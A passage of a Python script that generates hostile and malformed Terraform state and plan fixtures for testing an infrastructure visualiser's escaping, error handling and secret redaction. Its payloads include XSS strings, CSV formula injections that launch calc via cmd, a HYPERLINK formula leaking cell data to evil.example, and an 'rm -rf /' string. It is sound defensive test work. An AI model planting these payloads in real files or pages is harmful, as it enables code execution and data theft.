#!/usr/bin/env python3
"""make-hostile.py - the hostile-input corpus of tests/run-hostile.sh.

    python3 tests/make-hostile.py --small   rewrite the generated small
                                           files of tests/bad, tests/hostile
    python3 tests/make-hostile.py --big DIR write the large ones (over
                                           200 KB, not committed) into
                                           DIR/bad and DIR/hostile

tests/bad: malformed input, every command must exit 3 with
"tfsight: error: FILE...".  tests/hostile: valid but hostile input, every
command must exit 0 with no secret (TFSIGHT-CANARY...), no raw control
character and no unescaped markup in its output.  Hand-written files of
those directories that are not listed here stay as they are.
"""
import json
import os
import sys

AWS = 'provider["registry.terraform.io/hashicorp/aws"]'
ARN = "arn:aws:%s:sa-east-1:123456789012:%s"


def res(rtype, name, attrs, mode="managed", extra=None, inst=None):
    i = {"schema_version": 0, "attributes": attrs}
    if inst:
        i.update(inst)
    r = {"mode": mode, "type": rtype, "name": name, "provider": AWS,
         "instances": [i]}
    if extra:
        r.update(extra)
    return r


def state(resources, **top):
    d = {"version": 4, "terraform_version": "1.9.8", "serial": 1,
         "lineage": "hostile", "outputs": {}, "resources": resources}
    d.update(top)
    return d


def dump(d):
    return json.dumps(d, indent=1, ensure_ascii=False).encode("utf-8")


def net(tags=None, name="main"):
    """A small VPC with one public and one private subnet, an ALB, an ECS
    service and an RDS instance: enough for every renderer to draw."""
    t = tags or {}
    return [
        res("aws_vpc", name, {"id": "vpc-1", "arn": ARN % ("ec2", "vpc/vpc-1"),
                              "cidr_block": "10.0.0.0/16", "tags": t}),
        res("aws_subnet", "pub", {"id": "subnet-a", "vpc_id": "vpc-1",
                                  "availability_zone": "sa-east-1a",
                                  "cidr_block": "10.0.0.0/24",
                                  "map_public_ip_on_launch": True,
                                  "tags": t}),
        res("aws_subnet", "priv", {"id": "subnet-b", "vpc_id": "vpc-1",
                                   "availability_zone": "sa-east-1b",
                                   "cidr_block": "10.0.1.0/24", "tags": t}),
        res("aws_lb", "alb", {"id": "lb-1", "arn": ARN % (
            "elasticloadbalancing", "loadbalancer/app/x/1"),
            "load_balancer_type": "application", "internal": False,
            "subnets": ["subnet-a"], "security_groups": ["sg-1"],
            "tags": t}),
        res("aws_security_group", "sg", {"id": "sg-1", "vpc_id": "vpc-1",
                                         "name": "sg", "tags": t,
                                         "ingress": [{
                                             "from_port": 443,
                                             "to_port": 443,
                                             "protocol": "tcp",
                                             "cidr_blocks": ["0.0.0.0/0"],
                                             "description": t.get(
                                                 "Name", "https")}]}),
        res("aws_ecs_service", "svc", {"id": "svc-1", "name": "svc",
                                       "desired_count": 1,
                                       "launch_type": "FARGATE",
                                       "network_configuration": [{
                                           "subnets": ["subnet-b"],
                                           "security_groups": ["sg-1"]}],
                                       "tags": t}),
        res("aws_db_instance", "db", {"id": "db-1", "arn": ARN % (
            "rds", "db:db-1"), "engine": "postgres",
            "instance_class": "db.t3.micro", "allocated_storage": 20,
            "multi_az": False, "db_subnet_group_name": "g", "tags": t}),
    ]


PAYLOADS = {
    "Name": "<script>alert('n')</script>",
    "Environment": "prod\"><img src=x onerror=alert(1)>",
    "Project": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "Owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "CostCenter": "+cmd|' /C notepad'!A0",
    "Team": "-2+3+cmd|' /C calc'!A0",
    "Note": "[click](javascript:alert(1)) @here @channel `rm -rf /` | a | b |",
    "Md": "**bold** _it_ # head\n- item\n<details open>x</details> ~~s~~",
    "Tab": "\t=1+1",
    "Amp": "&lt;script&gt; &amp; <![CDATA[x]]> ]]> <!-- c --> <?xml ?>",
}


def small_hostile():
    out = {}
    # markup and formula payloads in every place a name can come from
    r = net(dict(PAYLOADS))
    r.append(res("aws_s3_bucket", "b", {
        "id": "=cmd|' /C calc'!A0", "bucket": "<svg onload=alert(1)>",
        "arn": "arn:aws:s3:::<b>x</b>", "tags": dict(PAYLOADS)},
        extra={"each": "map"},
        inst={"index_key": "\"]<script>alert('k')</script>[\""}))
    out["payloads-html-csv-md.tfstate"] = dump(state(r))

    # the same payloads as resource names, module names and for_each keys
    r = []
    for i, (k, v) in enumerate(sorted(PAYLOADS.items())):
        x = res("aws_cloudwatch_log_group", "lg%d" % i, {
            "name": v, "retention_in_days": 7, "tags": {"Name": v}},
            extra={"module": "module.m[\"%s\"]" % v.replace('"', "'")},
            inst={"index_key": v})
        r.append(x)
    out["payloads-in-addresses.tfstate"] = dump(state(r))

    # terminal control sequences, escaped in the JSON text
    ctrl = "a\u001b[31mred\u001b]0;title\u0007\r\nb\u0008\u007f\u009b2J\u0085"
    r = net({"Name": ctrl, "Environment": ctrl, "Owner": "\u001b[2J"})
    r[0]["name"] = "v\u001b"
    out["control-chars.tfstate"] = dump(state(r, lineage=ctrl,
                                              terraform_version=ctrl))

    # unicode that is valid but unkind: bidi overrides, zero width,
    # combining marks, U+2028, U+FEFF inside strings, astral planes
    uni = ("\u202eevil\u202c \u200b\u200d\u2028\u2029 e\u0301\u0301\u0301 "
           "\ufeff\U0001F4A3\U0001F469\u200d\U0001F4BB \uffff \U0010FFFF")
    out["unicode-odd.tfstate"] = dump(state(net({"Name": uni,
                                                 "Project": uni,
                                                 uni: uni})))

    # JSON-in-a-string attributes that are not valid JSON, each holding a
    # password: truncated, trailing text, NaN, a BOM, 1e999, a typo,
    # single quotes, a comment.  Never parsed, so never redacted: they must
    # be evidence by path only.
    good = ('[{"name":"app","image":"x:1","environment":[{"name":'
            '"DB_PASSWORD","value":"TFSIGHT-CANARY-malformed-json"}]}]')
    bad = {"truncated": good[:-5], "trailing": good + " trailing",
           "nan": good.replace('"x:1"', "NaN"), "bom": "\ufeff" + good,
           "e999": good.replace('"x:1"', "1e999"),
           "typo": good.replace('"image":', '"image"'),
           "single": good.replace('"', "'"), "comment": good + " // x"}
    r = []
    for k, v in sorted(bad.items()):
        r.append(res("aws_ecs_task_definition", k, {
            "arn": ARN % ("ecs", "task-definition/%s:1" % k), "family": k,
            "revision": 1, "cpu": "256", "memory": "512",
            "container_definitions": v}))
        r.append(res("aws_iam_policy", k, {
            "arn": "arn:aws:iam::123456789012:policy/%s" % k, "name": k,
            "policy": v}))
        r.append(res("aws_iam_role", k, {
            "arn": "arn:aws:iam::123456789012:role/%s" % k, "name": k,
            "assume_role_policy": v}))
        r.append(res("aws_sqs_queue", k, {
            "arn": ARN % ("sqs", k), "name": k, "policy": v,
            "redrive_policy": v}))
    out["malformed-json-strings.tfstate"] = dump(state(r))

    # secrets where no sensitive mark names them
    cd = json.dumps([{"name": "app", "image": "nginx", "essential": True,
                      "environment": [
                          {"name": "API_TOKEN", "value": "TFSIGHT-CANARY-env"},
                          {"name": "DB_PASSWORD",
                           "value": "TFSIGHT-CANARY-dbpw"},
                          {"name": "MODE", "value": "prod"}],
                      "secrets": [{"name": "X", "valueFrom": "arn:x"}],
                      "command": ["--password", "hunter2"]}])
    r = [
        res("aws_ecs_task_definition", "t", {
            "arn": ARN % ("ecs", "task-definition/t:1"), "family": "t",
            "cpu": "256", "memory": "512", "network_mode": "awsvpc",
            "requires_compatibilities": ["FARGATE"],
            "container_definitions": cd}),
        res("aws_db_instance", "db", {
            "id": "db-1", "engine": "mysql", "instance_class": "db.t3.micro",
            "allocated_storage": 20, "password": "TFSIGHT-CANARY-password",
            "tags": {"Name": "db"},
            "restore_to_point_in_time": [{"nested": {
                "master_password": "TFSIGHT-CANARY-nested-password"}}]}),
        res("aws_rds_cluster", "c", {
            "id": "c-1", "engine": "aurora-postgresql",
            "master_user_secret": [{"secret_arn": "arn:x",
                                    "kms_key_id": "k"}],
            "scaling_configuration": [{"auth": [{
                "secret": "TFSIGHT-CANARY-block-secret"}]}]}),
        res("aws_secretsmanager_secret_version", "sv", {
            "secret_string": "TFSIGHT-CANARY-data-secret",
            "secret_binary": "VEZTSUdIVC1DQU5BUlk="}, mode="data"),
        res("aws_secretsmanager_secret_version", "sv2", {
            "id": "x", "secret_id": "arn:x",
            "secret_string": "{\"password\":\"TFSIGHT-CANARY-json\"}"}),
        res("tls_private_key", "k", {
            "algorithm": "RSA", "private_key_pem": "TFSIGHT-CANARY-pem",
            "private_key_openssh": "TFSIGHT-CANARY-ssh",
            "public_key_pem": "ok"},
            extra={"provider":
                   'provider["registry.terraform.io/hashicorp/tls"]'}),
        res("aws_iam_access_key", "ak", {
            "id": "AKIA", "secret": "TFSIGHT-CANARY-iam-secret",
            "ses_smtp_password_v4": "TFSIGHT-CANARY-smtp",
            "user": "u"}),
        res("aws_ssm_parameter", "p", {
            "name": "/app/db", "type": "SecureString",
            "value": "TFSIGHT-CANARY-ssm-value",
            "insecure_value": None},
            inst={"sensitive_attributes": [[{"type": "get_attr",
                                             "value": "value"}]]}),
        # only sensitive_attributes says so: an innocent-looking name
        res("aws_instance", "vm", {
            "id": "i-1", "instance_type": "t3.micro", "subnet_id": "x",
            "user_data": "TFSIGHT-CANARY-user-data",
            "tags": {"Name": "vm", "Hint": "TFSIGHT-CANARY-tag-marked"}},
            inst={"sensitive_attributes": [
                [{"type": "get_attr", "value": "user_data"}],
                [{"type": "get_attr", "value": "tags"},
                 {"type": "index",
                  "value": {"value": "Hint", "type": "string"}}]]}),
        # Terraform >= 1.10 writes paths as strings
        res("aws_lambda_function", "f", {
            "function_name": "f", "runtime": "nodejs20.x",
            "environment": [{"variables": {
                "STRIPE_KEY": "TFSIGHT-CANARY-lambda-env",
                "PLAIN": "ok"}}]},
            inst={"sensitive_attributes": [
                [{"type": "get_attr", "value": "environment"},
                 {"type": "index", "value": {"value": 0, "type": "number"}},
                 {"type": "get_attr", "value": "variables"}]]}),
    ]
    out["secrets-unexpected.tfstate"] = dump(state(r))

    # a plan: secrets only in after_sensitive / before_sensitive, and
    # after_unknown everywhere
    def change(addr, rtype, before, after, unknown, **kw):
        c = {"address": addr, "mode": "managed", "type": rtype,
             "name": addr.split(".")[-1],
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": kw.get("actions", ["update"]),
                        "before": before, "after": after,
                        "after_unknown": unknown,
                        "before_sensitive": kw.get("bs", {}),
                        "after_sensitive": kw.get("as_", {})}}
        return c
    db_after = {"engine": "postgres", "instance_class": "db.m5.large",
                "allocated_storage": None, "note": "TFSIGHT-CANARY-after",
                "tags": {"Name": "<script>x</script>"}}
    plan = {
        "format_version": "1.2", "terraform_version": "1.9.8",
        "planned_values": {"root_module": {"resources": [
            {"address": "aws_db_instance.db", "mode": "managed",
             "type": "aws_db_instance", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "values": db_after,
             "sensitive_values": {"note": True, "tags": {}}},
            {"address": "aws_ecs_service.s", "mode": "managed",
             "type": "aws_ecs_service", "name": "s",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "values": {}, "sensitive_values": {}},
            {"address": "aws_nat_gateway.n", "mode": "managed",
             "type": "aws_nat_gateway", "name": "n",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "values": {"subnet_id": None, "tags": None},
             "sensitive_values": {}}]}},
        "resource_changes": [
            change("aws_db_instance.db", "aws_db_instance",
                   {"engine": "postgres", "instance_class": "db.t3.micro",
                    "allocated_storage": 20,
                    "note": "TFSIGHT-CANARY-before"},
                   db_after, {"allocated_storage": True, "id": True,
                              "arn": True, "tags": {"Name": False}},
                   bs={"note": True}, as_={"note": True}),
            change("aws_ecs_service.s", "aws_ecs_service", None, {},
                   True, actions=["create"]),
            change("aws_nat_gateway.n", "aws_nat_gateway", None,
                   {"subnet_id": None, "tags": None},
                   {"subnet_id": True, "tags": True, "id": True},
                   actions=["create"]),
        ],
        "prior_state": {"format_version": "1.0", "values": {"root_module": {
            "resources": [
                {"address": "aws_db_instance.db", "mode": "managed",
                 "type": "aws_db_instance", "name": "db",
                 "provider_name": "registry.terraform.io/hashicorp/aws",
                 "values": {"engine": "postgres",
                            "instance_class": "db.t3.micro",
                            "allocated_storage": 20,
                            "note": "TFSIGHT-CANARY-prior"},
                 "sensitive_values": {"note": True}}]}}},
    }
    out["plan-after-unknown.json"] = dump(plan)

    # show -json of a state: sensitive_values only
    show = {"format_version": "1.0", "terraform_version": "1.9.8",
            "values": {"root_module": {"resources": [
                {"address": "aws_db_instance.db", "mode": "managed",
                 "type": "aws_db_instance", "name": "db",
                 "provider_name": "registry.terraform.io/hashicorp/aws",
                 "values": {"engine": "mysql", "instance_class":
                            "db.t3.micro", "allocated_storage": 10,
                            "endpoint_note": "TFSIGHT-CANARY-show",
                            "list": ["a", "TFSIGHT-CANARY-show-list"]},
                 "sensitive_values": {"endpoint_note": True,
                                      "list": [False, True]}}]}}}
    out["show-sensitive-values.json"] = dump(show)

    # null everywhere a value can be
    keys = ["id", "arn", "vpc_id", "subnet_id", "subnet_ids", "subnets",
            "security_groups", "vpc_security_group_ids", "tags", "tags_all",
            "availability_zone", "cidr_block", "engine", "instance_class",
            "allocated_storage", "multi_az", "desired_count", "cpu",
            "memory", "launch_type", "retention_in_days", "name",
            "load_balancer", "target_group_arn", "port", "protocol",
            "ingress", "egress", "container_definitions", "origin",
            "alias", "records", "zone_id", "dimensions", "alarm_actions"]
    r = []
    for t in ["aws_vpc", "aws_subnet", "aws_security_group", "aws_lb",
              "aws_lb_listener", "aws_lb_target_group", "aws_ecs_service",
              "aws_ecs_task_definition", "aws_db_instance",
              "aws_rds_cluster", "aws_cloudfront_distribution",
              "aws_route53_record", "aws_cloudwatch_metric_alarm",
              "aws_nat_gateway", "aws_s3_bucket", "aws_elasticache_cluster",
              "aws_instance", "aws_lambda_function", "aws_eip"]:
        r.append(res(t, "n", {k: None for k in keys}))
    r.append(res("aws_vpc", "listnull", {"id": "vpc-9",
                                         "tags": {"Name": None},
                                         "cidr_block": [None, None]}))
    out["nulls-everywhere.tfstate"] = dump(state(r, lineage=None,
                                                 terraform_version=None))

    # every attribute of the wrong type
    wrong = [[], {}, "", "x", 0, -1, 1.5, True, [None], [{}], [[]], {"a": []}]
    r = []
    for i, w in enumerate(wrong):
        for t in ["aws_vpc", "aws_subnet", "aws_security_group",
                  "aws_ecs_service", "aws_db_instance", "aws_lb",
                  "aws_lb_listener", "aws_cloudfront_distribution",
                  "aws_s3_bucket", "aws_route53_record",
                  "aws_cloudwatch_metric_alarm", "aws_ecs_task_definition"]:
            r.append(res(t, "w%d" % i, {k: w for k in keys}))
    out["wrong-types-in-attributes.tfstate"] = dump(state(r))

    # tags of the wrong shape: arrays, strings, numbers, nested
    r = net()
    shapes = [["Name", "x"], "Name=x", 42, {"Name": {"nested": "x"}},
              {"Name": ["a", "b"]}, {"Name": 1e300}, {"": ""},
              {"Name": True}]
    for i, s in enumerate(shapes):
        r.append(res("aws_s3_bucket", "t%d" % i, {
            "bucket": "b%d" % i, "tags": s, "tags_all": s}))
    out["tags-wrong-shapes.tfstate"] = dump(state(r))

    # numbers: huge, negative, -0, denormal, NaN-like strings
    r = []
    nums = [1e308, -1e308, -0.0, 5e-324, 9223372036854775807,
            -9223372036854775808, 18446744073709551615, "NaN", "Infinity",
            "-inf", "1e400", "0x10", " 20", "20 ", "", "-0", "1_000"]
    for i, n in enumerate(nums):
        r.append(res("aws_db_instance", "n%d" % i, {
            "id": "db-%d" % i, "engine": "postgres",
            "instance_class": "db.t3.micro", "allocated_storage": n,
            "iops": n, "backup_retention_period": n, "multi_az": False,
            "tags": {"Name": "n%d" % i}}))
        r.append(res("aws_ecs_service", "n%d" % i, {
            "name": "s%d" % i, "desired_count": n, "launch_type": "FARGATE"}))
        r.append(res("aws_ecs_task_definition", "n%d" % i, {
            "family": "f%d" % i, "cpu": n, "memory": n,
            "requires_compatibilities": ["FARGATE"]}))
        r.append(res("aws_cloudwatch_log_group", "n%d" % i, {
            "name": "l%d" % i, "retention_in_days": n}))
        r.append(res("aws_nat_gateway", "n%d" % i, {"id": "nat-%d" % i}))
        r.append(res("aws_ebs_volume", "n%d" % i, {"size": n, "iops": n,
                                                   "type": "gp3"}))
    out["numbers-extreme.tfstate"] = dump(state(r))

    # index keys at the edges
    r = []
    for i, k in enumerate([9223372036854775807, 0, "", " ", "\"", "]",
                           "a\"]b[\"c", "k\nl"]):
        r.append(res("aws_eip", "k%d" % i, {"id": "e%d" % i},
                     extra={"each": "map"},
                     inst={"index_key": k}))
    out["index-keys-edge.tfstate"] = dump(state(r))

    # duplicate keys (the last wins, as Terraform reads them), duplicate
    # addresses and instances
    dup = (b'{"version": 4, "serial": 1, "serial": 2, "lineage": "a",'
           b' "lineage": "<b>dup</b>", "resources": [], "resources": [\n'
           b'{"mode": "managed", "type": "aws_vpc", "name": "v",'
           b' "provider": "p", "instances": [{"attributes": {"id": "vpc-1",'
           b' "tags": {"Name": "a", "Name": "=1+1"},'
           b' "password": "x", "password": "TFSIGHT-CANARY-dup"}},'
           b' {"attributes": {"id": "vpc-1"}}]},\n'
           b'{"mode": "managed", "type": "aws_vpc", "name": "v",'
           b' "provider": "p", "instances": [{"attributes": {"id": "vpc-1",'
           b' "tags": {"Name": "again"}}}]}]}\n')
    out["duplicate-keys.tfstate"] = dup

    # references that lead nowhere or in circles
    r = [
        res("aws_security_group", "a", {"id": "sg-a", "vpc_id": "vpc-x",
                                        "ingress": [{"from_port": 0,
                                                     "to_port": 65535,
                                                     "protocol": "-1",
                                                     "security_groups":
                                                     ["sg-a", "sg-b",
                                                      "sg-missing"]}]}),
        res("aws_security_group", "b", {"id": "sg-b", "vpc_id": "vpc-x",
                                        "egress": [{"from_port": 5432,
                                                    "to_port": 80,
                                                    "protocol": "tcp",
                                                    "security_groups":
                                                    ["sg-a"]}]}),
        res("aws_route_table_association", "x", {"subnet_id": "subnet-z",
                                                 "route_table_id": "rtb-z"}),
        res("aws_subnet", "s", {"id": "subnet-s", "vpc_id": "vpc-none",
                                "availability_zone": "mars-1a"}),
        res("aws_subnet", "s2", {"id": "subnet-s", "vpc_id": "vpc-other"}),
        res("aws_cloudwatch_metric_alarm", "a", {
            "alarm_name": "a", "dimensions": {"LoadBalancer": "app/x/1",
                                              "DBInstanceIdentifier":
                                              "<db>"}}),
        res("aws_route53_record", "r", {"name": "x", "type": "A",
                                        "alias": [{"name": "x", "zone_id":
                                                   "Z", "evaluate_target_health":
                                                   False}]}),
        res("aws_cloudfront_distribution", "cf", {
            "id": "cf", "origin": [{"domain_name": "x", "origin_id": "o"},
                                   {"domain_name": "x", "origin_id": "o"}]}),
    ]
    out["dangling-references.tfstate"] = dump(state(r))

    # empty strings in every name
    r = [res("aws_vpc", "e", {"id": "", "arn": "", "tags": {"": "",
                                                            "Name": ""}}),
         res("aws_subnet", "e", {"id": "", "vpc_id": "",
                                 "availability_zone": ""}),
         res("aws_db_instance", "e", {"id": "", "engine": "",
                                      "instance_class": ""})]
    out["empty-strings.tfstate"] = dump(state(r, lineage=""))

    # arns and regions that are not what they claim
    r = []
    for i, a in enumerate(["arn:", "arn:aws", "arn:aws:::::::::", "::::",
                           "arn:aws:ec2:../../etc:1:x", "arn:aws:ec2:" +
                           "r" * 300 + ":1:x", "arn:aws:ec2:us-east-1:<b>:x"]):
        r.append(res("aws_eip", "a%d" % i, {"id": "e%d" % i, "arn": a,
                                            "region": a}))
    out["arns-malformed.tfstate"] = dump(state(r))

    # module paths a hundred deep, and very long names
    deep_mod = ".".join("module.m%d" % i for i in range(100))
    r = [res("aws_vpc", "v" * 2000, {"id": "vpc-1",
                                     "tags": {"Name": "N" * 5000}},
             extra={"module": deep_mod})]
    out["long-names.tfstate"] = dump(state(r))

    # legal nesting just below the parser's limit, in an attribute
    deep = "[" * 2000 + "]" * 2000
    text = dump(state(net())).decode()
    text = text.replace('"cidr_block": "10.0.0.0/16"',
                        '"cidr_block": "10.0.0.0/16", "policy": ' + deep, 1)
    out["deep-nesting-legal.tfstate"] = text.encode()

    # v3 flatmap oddities: counts that lie, keys with dots, huge counts
    v3 = {"version": 3, "terraform_version": "0.11.14", "serial": 2,
          "lineage": "v3", "modules": [{"path": ["root"], "outputs": {},
                                        "resources": {
        "aws_vpc.main": {"type": "aws_vpc", "depends_on": [], "primary": {
            "id": "vpc-1", "attributes": {
                "id": "vpc-1", "cidr_block": "10.0.0.0/16",
                "tags.%": "5", "tags.Name": "<script>v3</script>",
                "tags.a.b.c": "dots", "tags.Owner": "=1+2",
                "list.#": "99999999999", "list.0": "x",
                "set.#": "-1", "set.1234": "y",
                "map.%": "abc", "map.k": "v",
                "password": "TFSIGHT-CANARY-v3",
                "nested.0.secret": "TFSIGHT-CANARY-v3-nested",
                "x.#": "2", "x.0.y.#": "1", "x.0.y.0": "z", "x.1": "w",
                "": "empty key", ".": "dot", "a..b": "dd"}},
            "deposed": [], "provider": "provider.aws"},
        "aws_subnet.s.0": {"type": "aws_subnet", "primary": {
            "id": "subnet-1", "attributes": {"id": "subnet-1",
                                             "vpc_id": "vpc-1"}}},
        "aws_subnet.s.1": {"type": "aws_subnet", "primary": {
            "id": "subnet-2", "attributes": {"vpc_id": "vpc-1",
                                             "tags.%": "1"}}},
        "data.aws_caller_identity.me": {"type": "aws_caller_identity",
                                        "primary": {"id": "1",
                                                    "attributes": {}}},
    }}]}
    out["v3-flatmap-oddities.tfstate"] = dump(v3)

    # a byte-order mark at the start (allowed) and inside strings (data)
    out["bom-start.tfstate"] = b"\xef\xbb\xbf" + dump(state(net(
        {"Name": "\ufeffbom\ufeff"})))

    # attributes_flat (0.12-era legacy) with payloads and secrets
    r = [{"mode": "managed", "type": "aws_vpc", "name": "f", "provider": AWS,
          "instances": [{"attributes_flat": {
              "id": "vpc-f", "tags.%": "1", "tags.Name": "<i>flat</i>",
              "token": "TFSIGHT-CANARY-flat"}}]}]
    out["attributes-flat.tfstate"] = dump(state(r))
    return out


def small_bad():
    s = json.dumps(state(net())).encode()
    out = {
        "truncated-mid-string.json": s[:s.index(b'"aws_subnet"') + 5],
        "truncated-mid-number.json":
            b'{"version": 4, "serial": 12',
        "truncated-after-key.json":
            b'{"version": 4, "resources": [{"mode":',
        "truncated-plan.json":
            b'{"format_version": "1.2", "resource_changes": [{"address": '
            b'"aws_vpc.a", "change": {"actions": ["create"], "after": {',
        "trailing-garbage.json":
            b'{"version": 4, "resources": []} {"version": 4}',
        "top-string.json": b'"terraform"',
        "top-number.json": b'4',
        "top-null.json": b'null',
        "top-true.json": b'true',
        "empty-object.json": b'{}',
        "whitespace-only.json": b' \n\t \r\n',
        "resources-string.json": b'{"version": 4, "resources": "aws_vpc"}',
        "resources-number.json": b'{"version": 4, "resources": 7}',
        "instances-string.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": "x"}]}',
        "instances-array-of-arrays.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [[{"attributes": {}}]]}]}',
        "attributes-string.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"attributes": '
            b'"id=vpc-1"}]}]}',
        "attributes-array.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"attributes": '
            b'[{"id": "vpc-1"}]}]}]}',
        "resource-not-object.json":
            b'{"version": 4, "resources": ["aws_vpc.a"]}',
        "type-number.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": 7, '
            b'"name": "a", "instances": []}]}',
        "name-null.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": null, "instances": []}]}',
        "mode-number.json":
            b'{"version": 4, "resources": [{"mode": 1, "type": "aws_vpc", '
            b'"name": "a", "instances": []}]}',
        "version-float.json": b'{"version": 4.5, "resources": []}',
        "version-huge.json":
            b'{"version": 1180591620717411303424, "resources": []}',
        "serial-2-70.json":
            b'{"version": 4, "serial": 1180591620717411303424, '
            b'"resources": []}',
        "serial-string.json": b'{"version": 4, "serial": "3", '
                              b'"resources": []}',
        "serial-float.json": b'{"version": 4, "serial": 1.5, '
                             b'"resources": []}',
        "number-overflow-negative.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"attributes": '
            b'{"n": -1e400}}]}]}',
        "nan-literal.json":
            b'{"version": 4, "serial": NaN, "resources": []}',
        "infinity-literal.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"attributes": '
            b'{"n": Infinity}}]}]}',
        "deep-nesting-attr.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"attributes": {"p": '
            + b"[" * 10000 + b"]" * 10000 + b'}}]}]}',
        "deep-nesting-objects.json":
            b'{"a":' * 10000 + b'1' + b'}' * 10000,
        "invalid-utf8-key.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"attributes": '
            b'{"t\xc3\x28ags": {}}}]}]}',
        "invalid-utf8-overlong.json":
            b'{"version": 4, "lineage": "\xc0\xaf", "resources": []}',
        "invalid-utf8-surrogate.json":
            b'{"version": 4, "lineage": "\xed\xa0\x80", "resources": []}',
        "invalid-utf8-f5.json":
            b'{"version": 4, "lineage": "\xf5\x80\x80\x80", '
            b'"resources": []}',
        "invalid-utf8-in-tag.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"attributes": '
            b'{"tags": {"Name": "ok\xff\xfe"}}}]}]}',
        "lone-surrogate-escape.json":
            b'{"version": 4, "lineage": "\\ud800", "resources": []}',
        "nul-in-key.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"attributes": '
            b'{"ta\\u0000gs": {}}}]}]}',
        "nul-raw-in-string.json":
            b'{"version": 4, "lineage": "a\x00b", "resources": []}',
        "bom-twice.json": b'\xef\xbb\xbf\xef\xbb\xbf{"version": 4, '
                          b'"resources": []}',
        "bom-after-space.json": b' \xef\xbb\xbf{"version": 4, '
                                b'"resources": []}',
        "bom-utf16-in-utf8.json": b'\xef\xbb\xbf\xff\xfe{}',
        "plan-actions-not-array.json":
            b'{"format_version": "1.2", "resource_changes": [{"address": '
            b'"aws_vpc.a", "mode": "managed", "type": "aws_vpc", "name": '
            b'"a", "change": {"actions": "create"}}]}',
        "plan-change-string.json":
            b'{"format_version": "1.2", "resource_changes": [{"address": '
            b'"aws_vpc.a", "mode": "managed", "type": "aws_vpc", "name": '
            b'"a", "change": "create"}]}',
        "show-values-array.json":
            b'{"format_version": "1.0", "values": []}',
        "v3-modules-not-array.json":
            b'{"version": 3, "modules": {"root": {}}}',
        "v3-attributes-not-object.json":
            b'{"version": 3, "modules": [{"path": ["root"], "resources": '
            b'{"aws_vpc.a": {"type": "aws_vpc", "primary": {"id": "v", '
            b'"attributes": ["id", "v"]}}}}]}',
        "index-key-object.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"index_key": {"k": 1}, '
            b'"attributes": {}}]}]}',
        "index-key-float.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"index_key": 1.5, '
            b'"attributes": {}}]}]}',
        "sensitive-attributes-not-array.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_db_instance", "name": "a", "instances": [{"attributes": '
            b'{"password": "TFSIGHT-CANARY-x"}, "sensitive_attributes": '
            b'"password"}]}]}',
        "dependencies-not-array.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_vpc", "name": "a", "instances": [{"attributes": {}, '
            b'"dependencies": "aws_subnet.b"}]}]}',
        "secret-in-type-error.json":
            b'{"version": 4, "resources": [{"mode": "managed", "type": '
            b'"aws_db_instance", "name": "a", "instances": [{"attributes": '
            b'{"password": "TFSIGHT-CANARY-type-error"}, '
            b'"status": ["TFSIGHT-CANARY-status"]}]}]}',
    }
    return out


def big_bad():
    # a 10 MB string that never ends, and 10,000 levels in a plan
    return {
        "huge-unterminated-string.json":
            b'{"version": 4, "lineage": "' + b"A" * (10 << 20),
        "deep-nesting-plan.json":
            b'{"format_version": "1.2", "planned_values": ' +
            b'{"x": ' * 10000 + b'1' + b'}' * 10000 + b'}',
    }


def big_hostile():
    big = "<script>alert(1)</script>=HYPERLINK(\"x\")|`@here`\u001b[31m"
    big = (big * ((10 << 20) // len(big) + 1))[:10 << 20]
    # one 10 MB value, as the Name tag of one resource (shown in every
    # output) in the middle of an ordinary stack
    r = net({"Owner": "o"})
    r.append(res("aws_s3_bucket", "huge", {"bucket": "b", "tags": {
        "Name": big, "Project": "p"}}))
    many = []
    for i in range(3000):
        many.append(res("aws_security_group_rule", "r%d" % i, {
            "security_group_id": "sg-%d" % (i % 50), "type": "ingress",
            "from_port": i, "to_port": i, "protocol": "tcp",
            "cidr_blocks": ["10.%d.%d.0/24" % (i // 256, i % 256)],
            "description": "<b>%d</b>" % i}))
        many.append(res("aws_subnet", "s%d" % i, {
            "id": "subnet-%d" % i, "vpc_id": "vpc-%d" % (i % 7),
            "availability_zone": "sa-east-1%s" % "abc"[i % 3],
            "tags": {"Name": "=s%d" % i}}))
    return {
        "huge-tag-10mb.tfstate": dump(state(r)),
        "many-resources.tfstate": dump(state(net() + many)),
    }


def write_all(d, files):
    os.makedirs(d, exist_ok=True)
    for name, data in files.items():
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)


def main(argv):
    here = os.path.dirname(os.path.abspath(__file__))
    if argv[1:] == ["--small"]:
        write_all(os.path.join(here, "bad"), small_bad())
        write_all(os.path.join(here, "hostile"), small_hostile())
    elif len(argv) == 3 and argv[1] == "--big":
        write_all(os.path.join(argv[2], "bad"), big_bad())
